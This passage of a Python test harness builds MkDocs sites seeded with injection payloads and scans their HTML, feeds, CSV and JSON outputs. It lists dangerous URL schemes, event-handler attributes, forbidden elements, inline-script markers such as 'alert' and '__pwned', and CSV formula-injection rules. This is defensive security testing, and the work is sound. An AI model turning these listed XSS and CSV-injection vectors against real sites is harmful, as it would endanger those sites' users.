    tree = site_tree(accepted, site)
    write_tree(tree, root / "content")
    return root


def build_in_process(root: Path) -> None:
    """mkdocs build into root/site, in-process; raises what MkDocs raises."""
    from mkdocs.commands.build import build
    from mkdocs.config import load_config

    config = load_config(config_file=str(root / "mkdocs.yml"), site_dir=str(root / "site"))
    config.plugins.on_startup(command="build", dirty=False)
    try:
        build(config)
    finally:
        config.plugins.on_shutdown()


@dataclass
class Built:
    """A payload site, written and built (or not: `error`), and what the checks found in it."""
    name: str
    root: Path
    problems: list  # load_content's problems for the whole site: there should be none
    error: str | None  # the build's exception, if it failed
    log: list[str] = field(default_factory=list)  # MkDocs' warnings and errors
    _check: "SiteCheck | None" = None

    @property
    def site(self) -> Path:
        return self.root / "site"

    @property
    def check(self) -> "SiteCheck":
        """Every output file checked (check_site), once, when first asked for."""
        if self._check is None:
            from generator.outputs.acled_csv import COLUMNS

            self._check = check_site(self.site, PAIRS, len(COLUMNS))
        return self._check


class _Collect(logging.Handler):
    def __init__(self):
        super().__init__(logging.WARNING)
        self.lines: list[str] = []

    def emit(self, record):
        self.lines.append(f"{record.levelname}: {record.getMessage()}")


_MADE: dict[str, object] = {}  # one classification and one build per test session, shared by the test modules


def classified_once(base: Path) -> Classification:
    if "classification" not in _MADE:
        _MADE["classification"] = classify(base / "classify")
    return _MADE["classification"]


def sites_once(base: Path) -> dict[str, Built]:
    """The payload sites, each built once per session (build tests and browser tests use the same)."""
    if "sites" not in _MADE:
        from generator.records.content import load_content

        accepted = classified_once(base).accepted
        built = {}
        for name in SITES:
            root = write_site(base / name, accepted, name)
            problems = load_content(root / "content", root).problems
            collect = _Collect()
            logging.getLogger("mkdocs").addHandler(collect)
            error = None
            try:
                build_in_process(root)
            except (Exception, SystemExit) as exc:  # MkDocs' Abort is a SystemExit
                error = f"{type(exc).__name__}: {exc}"
            finally:
                logging.getLogger("mkdocs").removeHandler(collect)
            built[name] = Built(name, root, problems, error, collect.lines)
        _MADE["sites"] = built
    return _MADE["sites"]


# Checking outputs ------------------------------------------------------------------------------------------------

@dataclass(frozen=True)
class Finding:
    rule: str  # the sink / kind of problem, for grouping
    file: str
    snippet: str

    def __str__(self) -> str:
        found = markers_in(self.snippet) or [m.group(0).upper() for m in MARKER_ANY_CASE.finditer(self.snippet)][:1]
        who = "; ".join(describe_marker(m) for m in found[:3]) or "no marker"
        return f"{self.file}: {who}\n      {shorten(self.snippet, 240)}"


def report(findings: list[Finding], limit: int = 12) -> str:
    """Findings grouped by rule, each group with its count and its first `limit` examples."""
    groups: dict[str, list[Finding]] = defaultdict(list)
    for finding in findings:
        groups[finding.rule].append(finding)
    lines = []
    for rule, items in sorted(groups.items(), key=lambda kv: -len(kv[1])):
        payloads = sorted({m for f in items for m in markers_in(f.snippet)})
        lines.append(f"\n== {rule}: {len(items)} finding(s), markers {', '.join(payloads[:40])}"
                     f"{' …' if len(payloads) > 40 else ''}")
        lines += [f"  - {f}" for f in items[:limit]]
        if len(items) > limit:
            lines.append(f"  … and {len(items) - limit} more")
    return "\n".join(lines)


DANGEROUS_SCHEMES = ("javascript", "data", "vbscript", "livescript", "mocha")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "cite",
                  "longdesc", "ping", "lowsrc", "dynsrc", "codebase", "manifest", "icon", "profile", "archive",
                  "classid", "usemap", "srcset", "imagesrcset", "to", "from", "values", "by"}
# Attributes whose value is shown or read as text: a marker there is escaped text, not code.
TEXT_ATTRIBUTES = {"title", "alt", "aria-label", "content", "value", "datetime", "id", "class", "lang", "dir",
                   "name", "placeholder", "for", "aria-labelledby", "label", "type", "rel", "property"}
NEVER_ELEMENTS = {"iframe", "frame", "frameset", "object", "embed", "applet", "param", "math", "portal",
                  "isindex", "xmp", "plaintext", "noembed", "noframes", "template", "marquee", "listing", "video",
                  "audio", "source", "track", "animate", "set", "animatetransform", "animatemotion",
                  "foreignobject", "use", "image", "handler", "bgsound", "layer", "ilayer", "xml", "import",
                  "textarea", "select", "keygen", "mglyph", "malignmark", "canvas", "dialog"}
# The editors' Markdown fields turn images into their alt text (no third-party requests): none in fragments.
NEVER_IN_FRAGMENTS = NEVER_ELEMENTS | {"img", "picture", "svg", "form", "input", "button", "style", "link", "meta",
                                       "base", "title", "html", "head", "body"}
SVG_PARTS = {"path", "g", "circle", "rect", "polygon", "polyline", "ellipse", "line", "title", "desc"}
SVG_ATTRIBUTES = {"xmlns", "viewbox", "class", "width", "height", "aria-hidden", "fill", "d", "fill-rule",
                  "clip-rule", "role", "focusable"}
# The locator map (theme/explainers/map.html): links, labels and its inset too, and only these attributes; its
# links' href= are checked like every other link's.
MAP_SVG_PARTS = SVG_PARTS | {"svg", "a", "text"}
_BASEMAP_USE = re.compile(r"(?:\.\./)*assets/maps/[0-9a-f]{16}\.svg#(?:land|borders)")
MAP_SVG_ATTRIBUTES = SVG_ATTRIBUTES | {"id", "x", "y", "cx", "cy", "r", "href", "data-place", "text-anchor",
                                       "direction", "lang", "aria-labelledby", "aria-describedby"}
HEAD_ONLY = {"meta", "link", "base", "style", "title"}
VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "param", "source", "track",
        "wbr", "keygen"}
# Material's own inline scripts (material/templates/partials/javascripts/*.html) begin like this.
MATERIAL_INLINE_SCRIPTS = ("__md_scope=new URL(", "var palette=__md_get(", "var target=document.getElementById(",
                           "var tabs=__md_get(", "var el=document.querySelector(", "var consent=__md_get(")


def _search_loader() -> str:
    """The header search box's loader (theme/partials/search.html, in a {% raw %} block, so written out as it
    stands there), stripped: the one inline script of the site's own, matched exactly, not by its beginning."""
    template = (THEME / "partials" / "search.html").read_text(encoding="utf-8")
    found = re.findall(r"\{% raw %\}\s*<script>(.*?)</script>\s*\{% endraw %\}", template, re.DOTALL)
    assert len(found) == 1, "theme/partials/search.html: expected one <script> in a {% raw %} block"
    return found[0].strip()


SEARCH_LOADER = _search_loader()
# Scripts the pages load from the site: Material's bundle, ours, and Pagefind's UI (the loader adds its <script>;
# the UI imports pagefind.js and starts pagefind-worker.js itself, which put no <script> in the page).
OWN_SCRIPT = re.compile(r"(^|/)(assets/(javascripts/bundle\.[0-9a-f]+\.min\.js|explainers(-offline)?\.js)"
                        r"|pagefind/pagefind-component-ui\.js)$")
_STRIP = re.compile(r"[\x00-\x20\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]+")


def url_scheme(value: str) -> str:
    """The scheme a browser would see: entities are already decoded by the parser; it drops tabs, newlines and
    (leading) control characters and spaces; zero-width characters are dropped too, to be strict."""
    text = _STRIP.sub("", value)
    match = re.match(r"([a-zA-Z][a-zA-Z0-9+.\-]*):", text)
    return match.group(1).lower() if match else ""


@dataclass
class Element:
    tag: str
    attrs: list[tuple[str, str | None]]
    raw: str
    line: int
    in_head: bool
    in_svg: bool
    body: str = ""  # text of a <script> or <style>
    in_map: bool = False  # inside the locator map's <svg class="ce-map__svg">


class _Scanner(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[Element] = []
        self.stack: list[Element] = []
        self.open: dict[str, int] = defaultdict(int)  # open elements by tag
        self.text: list[str] = []
        self.captures: dict[str, list[str]] = defaultdict(list)  # class of a <pre> -> text of its <code>

    def handle_starttag(self, tag, attrs):
        element = self._element(tag, attrs)
        if tag not in VOID:
            self.stack.append(element)
            self.open[tag] += 1

    def handle_startendtag(self, tag, attrs):
        self._element(tag, attrs)

    def _element(self, tag, attrs) -> Element:
        element = Element(tag, attrs, self.get_starttag_text() or "", self.getpos()[0],
                          self.open["head"] > 0, self.open["svg"] > 0,
                          in_map=bool(self.stack) and self.stack[-1].in_map)
        if tag == "svg" and "ce-map__svg" in (dict(attrs).get("class") or "").split():
            element.in_map = True
        self.elements.append(element)
        return element

    def handle_endtag(self, tag):
        if not self.open[tag]:
            return
        while self.stack:
            element = self.stack.pop()
            self.open[element.tag] -= 1
            if element.tag == tag:
                break

    def handle_data(self, data):
        if self.stack and self.stack[-1].tag in ("script", "style"):
            self.stack[-1].body += data
            return
        if self.stack and self.stack[-1].tag == "code" and len(self.stack) > 1 and self.stack[-2].tag == "pre":
            classes = dict(self.stack[-2].attrs).get("class") or ""
            self.captures[classes].append(data)
            if "ce-embed-code" in classes:
                return  # HTML source shown as text: its escapes are meant to be seen
        self.text.append(data)


def scan_html(text: str) -> _Scanner:
    scanner = _Scanner()
    scanner.feed(text)
    scanner.close()
    return scanner


def element_findings(element: Element, where: str, *, fragment: bool = False) -> list[Finding]:
    """What is wrong with one element, wherever it is; `fragment`: HTML a feed reader or TimelineJS inserts."""
    found = []
    tag, raw = element.tag, element.raw

    def add(rule: str) -> None:
        snippet = raw + element.body[:200] if tag in ("script", "style") else raw
        found.append(Finding(rule, where, snippet[:300]))

    if MARKER_ANY_CASE.search(tag) or any(MARKER_ANY_CASE.search(name) for name, _ in element.attrs):
        add("a payload marker in an element or attribute name (markup from content)")
    for name, value in element.attrs:
        value = value or ""
        if name.startswith("on"):
            add(f"event-handler attribute {name}= on <{tag}>")
        elif name in URL_ATTRIBUTES or (tag == "meta" and name == "content" and _url_meta(element)):
            targets = [value]
            if name in ("srcset", "imagesrcset"):
                targets = [part.strip().split(" ")[0] for part in value.split(",")]
            for target in targets:
                scheme = url_scheme(target)
                if scheme in DANGEROUS_SCHEMES:
                    add(f"{scheme}: URL in {name}= on <{tag}>")
                elif MARKER.search(target) and scheme not in ("", "http", "https", "mailto"):
                    add(f"a payload in a {scheme}: URL in {name}= on <{tag}>")
        elif name == "style" or name == "srcdoc":
            if MARKER.search(value) or re.search(r"javascript:|expression\s*\(|url\s*\(", value, re.I):
                add(f"{name}= from content on <{tag}>")
        elif MARKER.search(value) and name not in TEXT_ATTRIBUTES and not name.startswith("data-") \
                and not name.startswith("aria-"):
            add(f"a payload in the {name}= attribute of <{tag}>")
        if tag == "meta" and name == "http-equiv" and value.lower() in ("refresh", "set-cookie",
                                                                       "content-security-policy"):
            add(f"<meta http-equiv={value}>")
    # The map's shared basemap: a <use> of the site's own assets/maps/<hash>.svg, land or borders, nothing else.
    basemap = tag == "use" and element.in_map and not fragment and \
        _BASEMAP_USE.fullmatch(dict(element.attrs).get("href") or "") is not None
    if tag in (NEVER_IN_FRAGMENTS if fragment else NEVER_ELEMENTS) and not basemap:
        add(f"<{tag}> element" + (" in HTML a reader inserts" if fragment else ""))
    if tag == "svg" or element.in_svg:
        names = {name for name, _ in element.attrs}
        parts, allowed = (MAP_SVG_PARTS, MAP_SVG_ATTRIBUTES) if element.in_map else (SVG_PARTS, SVG_ATTRIBUTES)
        if tag != "svg" and tag not in parts and not basemap:
            add(f"<{tag}> inside an <svg> (Material's icons and the map hold only shapes, links and labels)")
        elif names - allowed:
            add(f"<{tag}> with attributes {sorted(names - allowed)} (not one of Material's icons or the map's)")
    if tag == "form" and not _material_form(element):
        add("<form> that is not Material's palette")
    if tag == "base" and dict(element.attrs).get("href") is not None:
        add("<base href> (rebases every relative link)")
    if not fragment and tag in HEAD_ONLY and not element.in_head and not element.in_svg:
        add(f"<{tag}> outside <head>")
    if tag == "script":
        found += script_findings(element, where, fragment=fragment)
    if tag == "style" and (MARKER.search(element.body) or "javascript" in element.body.lower()):
        add("<style> with content from a payload")
    return found


def _material_form(element: Element) -> bool:
    attrs = dict(element.attrs)
    return attrs.get("data-md-component") == "palette" and "action" not in attrs  # the only form a page has


def _url_meta(element: Element) -> bool:
    attrs = dict(element.attrs)
    return (attrs.get("property") or attrs.get("name") or "") in ("og:url", "og:image", "twitter:image")


def script_findings(element: Element, where: str, *, fragment: bool = False) -> list[Finding]:
    attrs = dict(element.attrs)
    kind = (attrs.get("type") or "").lower()
    body = element.body
    snippet = element.raw + body[:200]

    def finding(rule: str) -> list[Finding]:
        return [Finding(rule, where, snippet)]

    if fragment:
        return finding("<script> in HTML a reader inserts")
    if attrs.get("src") is not None:
        src = attrs["src"]
        parts = urlsplit(src)
        if parts.scheme or parts.netloc or not OWN_SCRIPT.search(parts.path) or body.strip():
            return finding("<script src> that is not the site's own")
        return []
    if kind == "application/ld+json":
        return jsonld_findings(body, where)
    if kind == "application/json" and attrs.get("id") == "__config":
        try:
            json.loads(body)
        except ValueError as error:
            return finding(f"Material's __config is not JSON ({error})")
        return finding("a payload in Material's __config") if MARKER.search(body) else []
    if kind in ("", "text/javascript", "module"):
        stripped = body.strip()
        if stripped == SEARCH_LOADER:
            return []
        if MARKER.search(body) or "alert" in body or "__pwned" in body \
                or not stripped.startswith(MATERIAL_INLINE_SCRIPTS):
            return finding("an inline <script> that is not one of Material's or the search loader")
        return []
    return finding(f"<script type={kind}> that is not the site's own")


def jsonld_findings(body: str, where: str) -> list[Finding]:
    found = []
    lowered = body.lower()
    for bad in ("</script", "<!--", "<script"):
        if bad in lowered:
            at = lowered.index(bad)
            found.append(Finding(f"{bad!r} inside a JSON-LD block", where, body[max(0, at - 80): at + 80]))
    try:
        json.loads(body)
    except ValueError as error:
        found.append(Finding("JSON-LD that is not JSON", where, f"{error}: {body[:200]}"))
    return found


def embed_snippet_findings(snippet: str, where: str) -> list[Finding]:
    """The copy-ready embed code must be one <iframe> with its fixed attributes and a safe src."""
    scanner = scan_html(snippet)
    found = []
    if [e.tag for e in scanner.elements] != ["iframe"]:
        found.append(Finding("the embed snippet is not exactly one <iframe>", where, snippet))
    for element in scanner.elements:
        names = [name for name, _ in element.attrs]
        if sorted(names) != sorted(["src", "title", "width", "height", "style", "loading"]):
            found.append(Finding("the embed snippet's <iframe> has other attributes than its own", where, snippet))
        src = dict(element.attrs).get("src") or ""
        if url_scheme(src) not in ("", "http", "https"):
            found.append(Finding("the embed snippet's src is not a web address", where, snippet))
        found += [Finding("embed snippet: " + f.rule, where, f.snippet) for f in element_findings(element, where)
                  if not f.rule.startswith("<iframe>")]
    return found


def fragment_findings(fragment: str, where: str) -> list[Finding]:
    """HTML that a feed reader or TimelineJS inserts into its own page."""
    scanner = scan_html(fragment)
    found = []
    for element in scanner.elements:
        found += element_findings(element, where, fragment=True)
    return found


def html_file_findings(text: str, where: str) -> tuple[list[Finding], _Scanner]:
    scanner = scan_html(text)
    found = []
    for element in scanner.elements:
        found += element_findings(element, where)
    for snippet in scanner.captures.get("ce-embed-code", []):
        found += embed_snippet_findings(snippet, where)
    seen: set[str] = set()
    for element in scanner.elements:  # a second element with an id takes its links and its script's lookups
        ident = dict(element.attrs).get("id")
        if ident is not None and not element.in_svg:
            if ident in seen:
                found.append(Finding(f"the id '{ident}' twice on one page", where, element.raw[:300]))
            seen.add(ident)
    return found, scanner


# Machine outputs

def xml_findings(text: str, where: str) -> list[Finding]:
    try:
        root = ET.fromstring(text.encode("utf-8"))
    except ET.ParseError as error:
        line = error.position[0] if hasattr(error, "position") else 0
        bad = text.splitlines()[line - 1] if 0 < line <= len(text.splitlines()) else ""
        return [Finding(f"not well-formed XML ({error})", where, bad[:300])]
    found = []
    ns = "{http://www.w3.org/2005/Atom}"
    for link in root.iter(f"{ns}link"):
        if url_scheme(link.get("href", "")) in DANGEROUS_SCHEMES:
            found.append(Finding("a dangerous URL in an Atom link", where, link.get("href", "")))
    for content in root.iter(f"{ns}content"):
        if content.get("type") == "html":
            found += [Finding(f"Atom content: {f.rule}", where, f.snippet)
                      for f in fragment_findings(content.text or "", where)]
    for title in root.iter(f"{ns}title"):
        if title.get("type") in ("html", "xhtml"):
            found += fragment_findings(title.text or "", where)
    return found


def json_findings(text: str, where: str) -> tuple[list[Finding], object]:
    try:
        return [], json.loads(text)
    except ValueError as error:
        return [Finding(f"not JSON ({error})", where, text[max(0, error.pos - 80): error.pos + 80])], None


def json_feed_findings(data: dict, where: str) -> list[Finding]:
    found = []
    for item in data.get("items", []):
        found += [Finding(f"JSON Feed content_html: {f.rule}", where, f.snippet)
                  for f in fragment_findings(item.get("content_html", ""), where)]
        if url_scheme(item.get("url", "")) in DANGEROUS_SCHEMES:
            found.append(Finding("a dangerous url in a JSON Feed item", where, item.get("url", "")))
    return found


def timeline_findings(data: dict, where: str) -> list[Finding]:
    """TimelineJS puts headline and text into its page as HTML."""
    found = []
    slides = [data.get("title") or {}] + list(data.get("events", [])) + list(data.get("eras", []))
    for slide in slides:
        for key in ("headline", "text"):
            value = (slide.get("text") or {}).get(key) or ""
            found += [Finding(f"TimelineJS {key}: {f.rule}", where, f.snippet) for f in fragment_findings(value, where)]
    return found


def geojson_findings(data: dict, where: str) -> list[Finding]:
    found = []
    if data.get("type") != "FeatureCollection":
        found.append(Finding("GeoJSON is not a FeatureCollection", where, str(data)[:200]))
    for feature in data.get("features", []):
        url = (feature.get("properties") or {}).get("url") or ""
        if url_scheme(url) in DANGEROUS_SCHEMES:
            found.append(Finding("a dangerous url in a GeoJSON feature", where, url))
    return found


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def csv_findings(text: str, where: str, columns: int) -> list[Finding]:
    """OWASP CSV injection: a cell that starts with = + - @ TAB or CR must be neutralised with a leading
    apostrophe (numbers such as -33.5 stay numbers)."""
    found = []
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for number, row in enumerate(rows[1:], start=2):
        if len(row) != columns:
            found.append(Finding(f"a CSV record with {len(row)} cells instead of {columns}", where, ",".join(row)[:200]))
        for cell in row:
            # As a spreadsheet may read it: look-alike signs folded (NFKC), invisible characters dropped.
            folded = re.sub("[\u00ad\u200b-\u200f\u2060-\u2064\ufeff]", "", unicodedata.normalize("NFKC", cell))
            if folded.startswith(FORMULA_START) and not NUMBER.fullmatch(folded):
                found.append(Finding("a CSV cell that a spreadsheet reads as a formula (no leading ')", where,
                                     f"record {number}: {cell[:200]!r}"))
    return found


def marker_context_findings(text: str, where: str, by_marker: dict[str, "Pair"]) -> list[Finding]:
    """Text searches at each marker: markup from a payload written out unescaped (its `<tag ...` up to the
    marker, verbatim in the HTML), and template expressions that were evaluated (`never_after`)."""
    found = []
    for match in MARKER.finditer(text):
        pair = by_marker.get(match.group(0))
        if pair is None:
            continue
        end = match.end()
        for after in pair.payload.never_after:
            if text.startswith(after, end):
                found.append(Finding("a template expression in content was evaluated", where,
                                     text[max(0, match.start() - 60): end + 60]))
        if where.endswith(".html"):
            for fragment in unescaped_fragments(pair):
                if text.startswith(fragment, end - len(fragment)):
                    found.append(Finding("payload markup written into HTML unescaped", where,
                                         text[max(0, end - len(fragment) - 40): end + 60]))
                    break
    return found


@lru_cache(maxsize=None)
def unescaped_fragments(pair: Pair) -> tuple[str, ...]:
    """From each `<` that opens markup in the payload to the next marker after it: verbatim in HTML, that text
    can only be markup, never escaped text."""
    text, m = pair.text, pair.marker
    fragments = []
    for opener in re.finditer(r"<[a-zA-Z!/?]", text):
        at = text.find(m, opener.start())
        if at >= 0 and at - opener.start() < 300:
            fragments.append(text[opener.start(): at + len(m)])
    return tuple(fragments)


# The whole site

@dataclass
class SiteCheck:
    findings: list[Finding] = field(default_factory=list)
    texts: dict[str, str] = field(default_factory=dict)  # HTML file -> its text content, for display checks
    counts: dict[str, int] = field(default_factory=lambda: defaultdict(int))


def check_site(site: Path, pairs: list[Pair], columns: int) -> SiteCheck:
    """Every output file of a built site, by kind."""
    result = SiteCheck()
    by_marker = {p.marker: p for p in pairs}
    for path in sorted(site.rglob("*")):
        if not path.is_file() or "assets" in path.relative_to(site).parts[:1]:
            continue
        where = path.relative_to(site).as_posix()
        suffix = path.suffix
        if suffix not in (".html", ".atom", ".json", ".geojson", ".csv", ".xml"):
            continue
        text = path.read_text(encoding="utf-8")
        result.counts[suffix] += 1
        result.findings += marker_context_findings(text, where, by_marker)
        if suffix == ".html":
            found, scanner = html_file_findings(text, where)
            result.findings += found
            result.texts[where] = "".join(scanner.text)
        elif suffix in (".atom", ".xml"):
            result.findings += xml_findings(text, where)
        elif suffix == ".csv":
            result.findings += csv_findings(text, where, columns)
        else:
            found, data = json_findings(text, where)
            result.findings += found
            if data is None:
                continue
            if where.endswith("feed.json"):
                result.findings += json_feed_findings(data, where)
            elif where.endswith("timeline.json"):
                result.findings += timeline_findings(data, where)
            elif suffix == ".geojson":
                result.findings += geojson_findings(data, where)
    return result


def display_findings(check: SiteCheck, pairs: list[Pair]) -> list[Finding]:
    """Legitimate text reads as written: on some page exactly, and nowhere escaped twice."""
    found = []
    everything = "\n".join(check.texts.values())
    for pair in pairs:
        if not (pair.payload.legit and pair.field.shown):
            continue
        if pair.text not in everything:
            near = [f"{name}: {' '.join(t[max(0, t.find(pair.marker) - 60): t.find(pair.marker) + 6].split())}"
                    for name, t in check.texts.items() if pair.marker in t][:2]
            found.append(Finding("legitimate text is not shown as written", "(all pages)",
                                 f"{pair.marker} expected {pair.text!r}; near the marker: {' | '.join(near) or 'nowhere'}"))
        escaped = html.escape(pair.text, quote=False)
        if escaped != pair.text and escaped in everything:
            page = next(name for name, t in check.texts.items() if escaped in t)
            found.append(Finding("legitimate text escaped twice (shows &amp; or &lt;)", page, escaped))
    return found

